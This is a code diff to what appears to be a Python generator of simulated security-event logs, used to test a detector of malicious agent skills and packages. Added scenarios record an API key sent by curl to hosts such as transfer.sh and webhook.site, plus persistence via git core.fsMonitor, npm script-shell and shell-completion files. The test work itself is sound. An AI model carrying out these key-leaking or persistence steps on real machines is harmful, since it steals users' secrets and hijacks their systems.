@@ -217,7 +217,65 @@ def honest_api():
     log.open(10, f"{HOME}/.bashrc", "write", "create", "append")
     log.truth(f"{HOME}/.bashrc")
     log.end()
+    log.block("ask completion fish > ~/.config/fish/completions/ask.fish", 45)
+    log.open(10, f"{HOME}/.config/fish/completions/ask.fish", "write", "create", "truncate")
+    log.truth(f"{HOME}/.config/fish/completions/ask.fish", "created")
+    log.end()
     log.block("if ! command -v uv; then\n  echo \"install it: curl -LsSf https://astral.sh/uv/install.sh | sh\"\nfi", 50)
+    log.end()
+    log.write()
+
+
+def handed_key(name, hosts):
+    """The key that instructions ask for is sent to each of HOSTS: a name and its address."""
+    log = Log(name)
+    log.files("SKILL.md", "ask.sh")
+    log.documents("host", "api.weather.example")
+    log.documents("host", "hook.weather.example")
+    log.documents("host", "transfer.sh")
+    log.baits()
+    log.add("bait.placed", "tool", bait="handed-key", what="instructions", name="YOUR_API_KEY")
+    log.block('curl -H "Authorization: Bearer k1" https://api.weather.example/v1', 12)
+    for pid, (host, address) in enumerate(hosts, 11):
+        url = f"https://{host or address}/v1"
+        log.exec(pid, 10, "/usr/bin/curl", "curl", "-H", "Authorization: Bearer k1", url)
+        if host:
+            log.dns(pid, host)
+            log.answer(host, address)
+        log.connect(pid, address, 443, "/usr/bin/curl")
+        log.world("tls", address, 443)
+        log.add("bait.seen", "world", bait="handed-key", where="sent", form="raw", address=address, port=443, url=url,
+                name=host)
+        log.exit(pid)
+    log.end()
+    log.write()
+
+
+def handed_key_used():
+    """To the service that it is for, to hosts that the package names, and to a machine of the reader's own."""
+    handed_key("handed-key-used", [("api.weather.example", "192.0.2.7"), ("eu.api.weather.example", "192.0.2.8"),
+                                   ("hook.weather.example", "192.0.2.9"), ("transfer.sh", "192.0.2.10"),
+                                   ("db.example.com", "192.0.2.11"), ("", "192.168.1.20")])
+
+
+def handed_key_taken():
+    handed_key("handed-key-taken", [("api.weather.example", "192.0.2.7"), ("stats.elsewhere.example", "192.0.2.8"),
+                                    ("webhook.site", "192.0.2.9")])
+
+
+def documented_server():
+    """A server connects to the database whose address it was started with, and sends the password in it."""
+    log = Log("documented-server", kind="npm")
+    log.files("package.json", "dist/index.js", "README.md")
+    log.baits()
+    log.add("bait.placed", "tool", bait="handed-key", what="instructions", name="YOUR_API_KEY")
+    log.script("dist/index.js", "node", "postgresql://app:k1@db.example.com/app", client="claude-code",
+               environment=["CACHE=redis://cache.example.com:6379", "API_KEY=k1"])
+    for host, address, port in (("db.example.com", "192.0.2.7", 5432), ("cache.example.com", "192.0.2.8", 6379)):
+        log.dns(10, host, "/usr/bin/node")
+        log.answer(host, address)
+        log.connect(10, address, port, "/usr/bin/node")
+        log.add("bait.seen", bait="handed-key", where="sent", pid=10, form="raw", executable="/usr/bin/node")
     log.end()
     log.write()
 
@@ -485,10 +543,14 @@ def persistence():
     log.open(10, f"{HOME}/.config/systemd/user/helper.service", "write", "create")
     log.exec(11, 10, "/usr/bin/systemctl", "systemctl", "--user", "enable", "helper.service")
     log.exec(12, 10, "/usr/bin/crontab", "crontab", "-")
+    log.exec(14, 10, "/usr/bin/git", "git", "config", "--global", "core.fsMonitor", "/tmp/upd")
+    log.exec(15, 10, "/usr/bin/npm", "npm", "config", "set", "script-shell=/tmp/upd")
     log.open(13, f"{HOME}/.ssh/authorized_keys", "write", "append", exe="/usr/bin/tee")
     log.truth(f"{HOME}/.bashrc")
     log.truth(f"{HOME}/.config/systemd/user/helper.service", "created")
     log.truth(f"{HOME}/.ssh/authorized_keys")
+    log.open(10, f"{HOME}/.config/fish/completions/sudo.fish", "write", "create")
+    log.truth(f"{HOME}/.config/fish/completions/sudo.fish", "created")
     log.end()
     log.write()
 
@@ -1304,8 +1366,23 @@ def least_tools():
     log.write()
 
 
+def build_files():
+    """Nothing of it runs by itself; what its Makefile offers was tried, once on another machine."""
+    log = Log("build-files")
+    log.files("SKILL.md", "Makefile")
+    for target in ("make:all", "make:test"):
+        log.add("manifest.entry", "static", path="Makefile", reason=target, when="use", interpreter="make", command=target)
+    log.script("Makefile", "make", call=True)
+    log.end()
+    log.script("Makefile", "make", call=True)
+    log.end(status=2)
+    log.script("Makefile", "make", call=True, repeats=1, persona="ci")
+    log.end()
+    log.write()
+
+
 if __name__ == "__main__":
-    for story in (weather, honest_api, exfil_ssh, exfil_file, base64_oneliner, stage_two, answered, dependencies, own_logins,
+    for story in (weather, honest_api, handed_key_used, handed_key_taken, documented_server, exfil_ssh, exfil_file, base64_oneliner, stage_two, answered, dependencies, own_logins,
                   persistence,
                   agent_tamper, own_place, reverse_shell, archive_traversal, hidden_unicode,
                   static_only, text_only, signed_by_others,
@@ -1313,5 +1390,5 @@ if __name__ == "__main__":
                   unexecuted, exception, home_search,
                   looking_around, interrupted,
                   evasion, network_honest, network_evasion, network_dropped, network_exfil, enciphered,
-                  waits, other_days, other_days_missed, elsewhere, flood, mcp_server, least_tools, odds_and_ends):
+                  waits, other_days, other_days_missed, elsewhere, flood, mcp_server, least_tools, build_files, odds_and_ends):
         story()
